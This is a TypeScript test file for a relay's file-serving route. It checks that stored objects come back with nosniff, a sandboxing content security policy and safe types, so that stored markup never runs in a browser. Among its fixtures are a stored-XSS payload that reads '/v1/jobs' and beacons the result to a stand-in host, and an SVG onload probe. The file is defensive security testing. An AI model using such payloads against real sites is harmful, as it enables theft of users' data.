import type { AddressInfo } from 'node:net';
import express from 'express';
import { afterAll, describe, expect, test } from 'vitest';
import { createBlobStore, createLogger, putObject } from '@relay/core';
import { storageKeyOf } from '@relay/jobs';
import { startLocalS3 } from '@relay/testkit';
import { errorScope } from '../http/errors.js';
import { filesRoutes } from './routes.js';

/**
 * `/files/:fileId` on the embedded store, both modes: whatever an object's stored type, the relay
 * never has a browser run markup from its origin.
 */
const s3 = await startLocalS3({ bucket: 'files-test' });
const store = createBlobStore({ ...s3.env, S3_FORCE_PATH_STYLE: true });
const log = createLogger('test', 'silent');
async function serve(mode: 'proxy' | 'redirect') {
  const app = express().use(filesRoutes(store, mode, 60), errorScope(log));
  const server = app.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => server.close() };
}
const proxy = await serve('proxy');
const redirect = await serve('redirect');
afterAll(async () => {
  proxy.close();
  redirect.close();
  await s3.close();
});

const job = (n: number) => `img_${n.toString(16).padStart(32, '0')}`;
const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
const markup = Buffer.from(
  '<!doctype html><script>fetch("/v1/jobs").then(r => r.text()).then(t => navigator.sendBeacon("//x", t))</script>',
);
/** Stored as the relay now stores images, and as a relay before it stored what a vendor said. */
const files = {
  image: { fileId: `${job(1)}-0.png`, key: storageKeyOf(job(1), 0, 'png'), body: png, type: 'image/png' },
  audio: { fileId: `${job(2)}-0.opus`, key: storageKeyOf(job(2), 0, 'opus'), body: Buffer.from('OggS'), type: 'audio/ogg; codecs=opus' },
  html: { fileId: `${job(3)}-0.jpeg`, key: storageKeyOf(job(3), 0, 'jpeg'), body: markup, type: 'text/html; charset=utf-8' },
  svg: {
    fileId: `${job(4)}-0.png`,
    key: storageKeyOf(job(4), 0, 'png'),
    body: Buffer.from('<svg onload="alert(1)"/>'),
    type: 'image/svg+xml',
  },
};
for (const file of Object.values(files)) await putObject(store, file.key, file.body, { contentType: file.type });

const SANDBOX = "default-src 'none'; sandbox";

describe('proxy: every answer carries nosniff and a sandboxing CSP', () => {
  test.each([
    ['an image', 'image/png', 'inline', files.image],
    ['audio', 'audio/ogg; codecs=opus', 'inline', files.audio],
    ['markup stored as text/html', 'application/octet-stream', 'attachment', files.html],
    ['an SVG stored as image/svg+xml', 'application/octet-stream', 'attachment', files.svg],
  ])('%s: served as %s, %s', async (_label, type, disposition, file) => {
    const res = await fetch(`${proxy.url}/files/${file.fileId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(type);
    expect(res.headers.get('content-disposition')).toBe(`${disposition}; filename="${file.fileId}"`);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toBe(SANDBOX);
    expect(Buffer.from(await res.arrayBuffer()).equals(file.body)).toBe(true);
  });

  test('a 404 too', async () => {
    for (const path of [`/files/${job(9)}-0.png`, '/files/not-a-file-id']) {
      const res = await fetch(`${proxy.url}${path}`);
      expect(res.status).toBe(404);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toBe(SANDBOX);
    }
  });
});

describe('redirect: the presigned link makes the store answer with the same type and disposition', () => {
  test.each([
    ['an image', 'image/png', 'inline', files.image],
    ['markup stored as text/html', 'application/octet-stream', 'attachment', files.html],
  ])('%s: the store answers %s, %s', async (_label, type, disposition, file) => {
    const res = await fetch(`${redirect.url}/files/${file.fileId}`, { redirect: 'manual' });
    expect(res.status).toBe(302);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const link = new URL(res.headers.get('location')!);
    expect(link.searchParams.get('response-content-type')).toBe(type);
    expect(link.searchParams.get('response-content-disposition')).toBe(`${disposition}; filename="${file.fileId}"`);
    const stored = await fetch(link);
    expect(stored.status).toBe(200);
    expect(stored.headers.get('content-type')).toBe(type);
    expect(stored.headers.get('content-disposition')).toBe(`${disposition}; filename="${file.fileId}"`);
    expect(Buffer.from(await stored.arrayBuffer()).equals(file.body)).toBe(true);
  });
});
